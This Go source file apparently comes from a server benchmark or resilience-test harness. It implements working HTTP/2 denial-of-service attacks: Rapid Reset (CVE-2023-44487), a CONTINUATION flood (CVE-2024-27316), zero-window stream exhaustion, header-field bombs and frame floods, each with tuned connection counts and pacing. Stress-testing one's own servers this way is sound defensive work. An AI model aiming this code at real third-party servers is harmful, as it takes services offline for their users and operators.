//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"

	"flash.test/deploy/bench/internal/drive"
)

// conn2 is an HTTP/2 connection that writes single frames, valid or not.
type conn2 struct {
	net.Conn
	*http2.Framer
	out   bytes.Buffer // what the framer wrote
	next  uint32       // stream to open
	limit uint32       // streams at once, by the server's settings
	block []byte       // a GET's header, the same for each request
}

// dial2 opens an HTTP/2 connection and exchanges settings.
func (s *site) dial2(ctx context.Context, settings ...http2.Setting) (*conn2, error) {
	conn, err := s.dial(ctx, s.addr2)
	if err != nil {
		return nil, err
	}
	c := &conn2{Conn: conn, next: 1, limit: 1 << 30, block: drive.RequestHeader(s.addr2.String(), s.path)}
	c.Framer = http2.NewFramer(&c.out, bufio.NewReader(conn))
	c.AllowIllegalWrites = true
	c.out.WriteString(http2.ClientPreface)
	c.WriteSettings(settings...)
	if err := c.flush(); err != nil {
		return nil, err
	}
	conn.SetReadDeadline(time.Now().Add(limit))
	frame, err := c.ReadFrame()
	if err != nil {
		return nil, err
	}
	conn.SetReadDeadline(time.Time{})
	theirs, ok := frame.(*http2.SettingsFrame)
	if !ok {
		return nil, fmt.Errorf("the first frame is %v: want the server's settings", frame.Header())
	}
	if n, ok := theirs.Value(http2.SettingMaxConcurrentStreams); ok {
		c.limit = n
	}
	c.WriteSettingsAck()
	return c, c.flush()
}

// age is the header field "age" without a value in one byte, an index into HPACK's static
// table (RFC 7541, Appendix A). No other field there counts less towards a limit on the
// header's size: 35 bytes.
const age = 0x80 | 21

// largestFrame is the payload of a frame that every server takes (RFC 9113,
// section 4.2).
const largestFrame = 16 << 10

// get opens a stream that asks for the path, with additional fields.
func (c *conn2) get(fields []byte) {
	block := append(append([]byte{}, c.block...), fields...)
	first := block[:min(len(block), largestFrame)]
	rest := block[len(first):]
	c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: first, EndStream: true,
		EndHeaders: len(rest) == 0})
	for len(rest) > 0 {
		part := rest[:min(len(rest), largestFrame)]
		rest = rest[len(part):]
		c.WriteContinuation(c.next, len(rest) == 0, part)
	}
	c.next += 2
}

// flush sends what the framer wrote.
func (c *conn2) flush() error {
	_, err := c.out.WriteTo(c.Conn)
	return err
}

// zeroWindow opens streams on 3 connections with a window of 0, and reads nothing.
func zeroWindow(ctx context.Context, s *site) error {
	return s.each(ctx, 3, func(ctx context.Context, _ int) error {
		c, err := s.dial2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		return c.open(s, min(uint32(s.scale.of(10_000)), c.limit), nil)
	})
}

// open opens n streams, with several in each write.
func (c *conn2) open(s *site, n uint32, fields []byte) error {
	for i := range n {
		c.get(fields)
		if c.out.Len() > 32<<10 || i == n-1 {
			if err := c.flush(); err != nil {
				return err
			}
		}
		s.sent.Add(1)
	}
	return nil
}

// manyFields sends up to 1,000 requests with 29,000 one-byte header fields each, which
// count as 1 MB.
func manyFields(ctx context.Context, s *site) error {
	return s.each(ctx, 1, func(ctx context.Context, _ int) error {
		c, err := s.dial2(ctx)
		if err != nil {
			return err
		}
		go drain(c.Conn)
		return c.open(s, min(uint32(s.scale.of(1000)), c.limit), bytes.Repeat([]byte{age}, 29_000))
	})
}

// rapidReset opens streams and resets each at once (CVE-2023-44487), 100,000 on each of 4
// connections, spread over the attack's time. It replaces connections that the server
// closes.
func rapidReset(ctx context.Context, s *site) error {
	const each, burst = 100_000, 100
	return s.each(ctx, 4, func(ctx context.Context, _ int) error {
		bursts := s.scale.of(each) / burst
		pace := time.NewTicker(s.scale.strike / time.Duration(bursts+1))
		defer pace.Stop()
		var c *conn2
		for range bursts {
			select {
			case <-ctx.Done():
				return nil
			case <-pace.C:
			}
			if c == nil {
				var err error
				if c, err = s.dial2(ctx); err != nil {
					c = nil
					continue
				}
				go drain(c.Conn)
			}
			for range burst {
				c.get(nil)
				c.WriteRSTStream(c.next-2, http2.ErrCodeCancel)
			}
			if c.flush() != nil {
				c.Conn.Close()
				c = nil
				continue
			}
			s.sent.Add(burst)
		}
		return nil
	})
}

// fill opens up to 10,000 streams on each of 10 connections, and reads the answers.
func fill(ctx context.Context, s *site) error {
	return s.each(ctx, 10, func(ctx context.Context, _ int) error {
		c, err := s.dial2(ctx)
		if err != nil {
			return err
		}
		go drain(c.Conn)
		return c.open(s, min(10_000, c.limit), nil) // not scaled: neither are the server's limits
	})
}

// poolNames waits in up to 29,700 pools with different names, on 3 HTTP/2 connections.
func poolNames(ctx context.Context, s *site) error {
	const conns = 3
	return s.each(ctx, conns, func(ctx context.Context, conn int) error {
		c, err := s.dial2(ctx)
		if err != nil {
			return err
		}
		go drain(c.Conn)
		each := min(s.scale.of(29_700/conns), int(c.limit))
		for i := range each {
			path := fmt.Sprintf("/delay/600000?pool=p%d&workers=1", conn*each+i)
			c.block = drive.RequestHeader(s.addr2.String(), path)
			if err := c.open(s, 1, nil); err != nil {
				return err
			}
		}
		return nil
	})
}

// flood sends a frame again and again on 4 connections, and reads nothing.
func flood(frame func(*conn2)) func(ctx context.Context, s *site) error {
	return func(ctx context.Context, s *site) error {
		return s.each(ctx, 4, func(ctx context.Context, _ int) error {
			c, err := s.dial2(ctx)
			if err != nil {
				return err
			}
			for range s.scale.of(1000) {
				for range 100 {
					frame(c)
				}
				if err := c.flush(); err != nil {
					return err
				}
				s.sent.Add(100)
			}
			return nil
		})
	}
}

// continuations sends an endless header (CVE-2024-27316), up to 64 MB on each of 4
// connections.
func continuations(ctx context.Context, s *site) error {
	part := bytes.Repeat([]byte{age}, largestFrame)
	return s.each(ctx, 4, func(ctx context.Context, _ int) error {
		c, err := s.dial2(ctx)
		if err != nil {
			return err
		}
		c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block, EndStream: true})
		for range s.scale.of(4000) {
			c.WriteContinuation(1, false, part)
			if err := c.flush(); err != nil {
				return err
			}
			s.sent.Add(1)
		}
		return nil
	})
}

// ended reports whether err says that the server closed the connection.
func ended(err error) bool {
	var network *net.OpError
	return errors.Is(err, io.EOF) || errors.As(err, &network)
}
